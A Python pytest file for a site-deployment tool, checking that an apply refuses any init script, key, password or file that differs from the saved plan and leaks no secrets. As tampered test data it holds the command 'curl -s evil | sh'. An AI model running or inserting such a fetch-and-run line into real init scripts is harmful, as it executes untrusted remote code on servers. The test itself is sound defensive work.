# Copyright (c) 2026, FCD collection contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An apply with a plan does what the plan says: no other script, key, password or page, and nobody edited the plan."""

from __future__ import annotations

import json
import typing as t
from pathlib import Path

import pytest
from plain_site import Ran, run
from sandbox.process import SandboxProcess

SCRIPT, SCRIPT_2 = "echo GOOD", "curl -s evil | sh"
PASSWORD, PASSWORD_2 = "Pelican-over-9-bridges", "Pelican-over-8-bridges"
Content = t.Dict[str, t.List[t.Dict[str, t.Any]]]
pytestmark = pytest.mark.usefixtures("home")


def site(home: Path) -> Content:
    """Return a site with something secret in each interface, and with files to publish; the files are written."""
    folder = home / "pub"
    folder.mkdir(exist_ok=True)
    for name, text in {"index.html": "AAAA", "about.html": "BBBB"}.items():
        (folder / name).write_text(text)
    (home / "logo.svg").write_text("good")
    return {
        "instances": [
            {
                "name": "web",
                "template": "CentOS 7",
                "subregion": "EU-001",
                "type": "v1.standard-2.2",
                "init_script": SCRIPT,
            }
        ],
        "storage_containers": [{"name": "assets", "temp_url_key": "good-key-0001", "metadata": {"team": "web"}}],
        "storage_folders": [{"container": "assets", "prefix": "pub", "path": str(folder)}],
        "storage_objects": [{"container": "assets", "name": "logo.svg", "src": str(home / "logo.svg")}],
        "client_users": [
            {
                "user_name": "shop.clerk",
                "client_id": 100,
                "user_password": PASSWORD,
                "first_name": "Shop",
                "last_name": "Clerk",
                "email": "clerk@example.com",
                "phone_number": "+48225550199",
            }
        ],
    }


def keep(home: Path, ran: Ran, **changed: t.Any) -> str:
    """Write the plan of a run with other members, and return the path."""
    path = home / "site.plan.json"
    path.write_text(json.dumps({**ran.succeeded().plan, **changed}), encoding="utf-8")
    return str(path)


def refused(sandbox: SandboxProcess, content: Content, plan: str, **options: t.Any) -> str:
    """Return how an apply with a plan is refused, by which nothing was sent."""
    ran = run(content, plan=plan, **options)
    assert (ran.result.get("failed"), ran.result["changed"]) == (True, False), ran.result
    assert sandbox.counts()["writes"] == 0
    assert "Nothing was changed." in ran.result["msg"]
    return str(ran.result["msg"])


EDITS: dict[str, t.Callable[[Path, Content], t.Any]] = {
    "instances.web.init_script": lambda _home, content: content["instances"][0].update(init_script=SCRIPT_2),
    "storage_containers.assets.temp_url_key": lambda _home, content: content["storage_containers"][0].update(
        temp_url_key="evil-key-0001"
    ),
    "client_users.shop.clerk.user_password": lambda _home, content: content["client_users"][0].update(
        user_password=PASSWORD_2
    ),
    "storage_folders.assets/pub/index.html": lambda home, _content: (home / "pub/index.html").write_text("EVIL"),
    "storage_objects.assets/logo.svg": lambda home, _content: (home / "logo.svg").write_text("evil"),
    "storage_folders.assets/pub/new.html": lambda home, _content: (home / "pub/new.html").write_text("new"),
}


@pytest.mark.parametrize("name", EDITS)
def test_what_is_secret_or_sent_is_that_of_the_plan(sandbox: SandboxProcess, home: Path, name: str) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    EDITS[name](home, content)
    told = refused(sandbox, content, plan)
    assert f"{name} is not " in told
    assert not [text for text in (SCRIPT, SCRIPT_2, "good-key", "evil-key", PASSWORD, PASSWORD_2) if text in told]


def test_a_plan_that_still_holds_is_applied(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    run(content, plan=plan).succeeded()
    objects = sandbox.state()["storage"]["containers"]["assets"]["objects"]
    assert sorted(objects) == ["logo.svg", "pub/about.html", "pub/index.html"]
    assert run(content).succeeded().result["changed"] is False
